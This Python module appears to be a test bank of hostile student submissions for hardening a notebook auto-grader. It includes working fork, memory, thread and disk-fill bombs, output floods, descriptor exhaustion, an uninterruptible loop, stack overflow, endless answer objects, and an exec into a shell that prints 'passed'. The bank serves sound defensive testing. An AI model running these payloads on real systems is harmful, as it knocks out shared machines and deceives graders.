"""Take all there is: processes, memory, disk, output, time."""

from ..bank import attack


@attack()
def fork_bomb():
    """Forks without end."""
    return """
import os
count = 0
while count < 100_000:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        count += 1
    except OSError:
        pass
"""


@attack()
def memory_bomb():
    """Allocates memory without end, in many processes."""
    return """
import os
for _ in range(8):
    if os.fork() == 0:
        break
blocks = []
while True:
    try:
        blocks.append(bytearray(b"x" * (64 * 2**20)))
    except MemoryError:
        import time
        time.sleep(0.1)
"""


@attack()
def thread_bomb():
    """Starts threads without end."""
    return """
import threading, time
for _ in range(10_000):
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""


@attack()
def disk_fill():
    """Fills the disk with files, large ones and many."""
    return """
import os
block = bytes(2**20)
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(3000):
        try:
            with open(f"{folder}/$MARK-{number}", "wb") as file:
                for _ in range(200):
                    file.write(block)
        except OSError as error:
            print(folder, number, error.strerror)
            break
    for number in range(100_000):
        try:
            os.mkdir(f"{folder}/$MARK-d{number}")
        except OSError as error:
            break
"""


@attack(stock="the kernel's messages time out: stock gives up on this student, who gets nothing")
def printed_flood():
    """Prints hundreds of megabytes."""
    return """
import os, sys
line = "x" * 10**6
for _ in range(200):
    print(line)
    os.write(1, line.encode())
    print(line, file=sys.stderr)
"""


@attack(stock="the output is kept and shown in full; it costs time and a large file, no points")
def display_flood():
    """Displays thousands of large outputs."""
    return """
from IPython.display import display, HTML
for number in range(3000):
    display(HTML("<p>" + "x" * 50_000 + "</p>"))
"""


@attack(stock="only its own kernel runs out of descriptors")
def open_files():
    """Opens files until there are no more descriptors."""
    return """
import os
kept = []
while True:
    try:
        kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        print(error.strerror, len(kept))
        break
"""


@attack(stock="its kernel dies, so that stock grades nothing of it: 0 points for all")
def closed_files():
    """Closes every descriptor, the grader's line among them."""
    return """
import os
os.closerange(0, 4096)
"""


@attack(stock="stock's time limit kills the kernel: 0 points for all")
def endless_loop():
    """Never ends, and ignores the interrupt."""
    return """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM})
while True:
    pass
"""


@attack(stock="its kernel dies, so that stock grades nothing of it: 0 points for all")
def deep_recursion():
    """Overflows the C stack."""
    return """
import sys
sys.setrecursionlimit(10**9)
def deep(x):
    return deep([x])
deep(1)
"""


@attack(
    "last",
    stock="stock asks no function and no variable; the checkpoint fails on the computed weights",
)
def huge_answers():
    """The functions and values that the grader asks for are endless."""
    return """
class Endless(list):
    def __iter__(self):
        while True:
            yield 0
    def __len__(self): return 2**60
def softmax(z):
    while True:
        z = np.concatenate([z, z])
weights = my_weights = Endless()
"""


@attack(stock="its kernel dies, so that stock grades nothing of it: 0 points for all")
def replaced_process():
    """The kernel's process becomes another program."""
    return """
import os
os.execv("/bin/sh", ["/bin/sh", "-c", "echo passed; sleep 100"])
"""
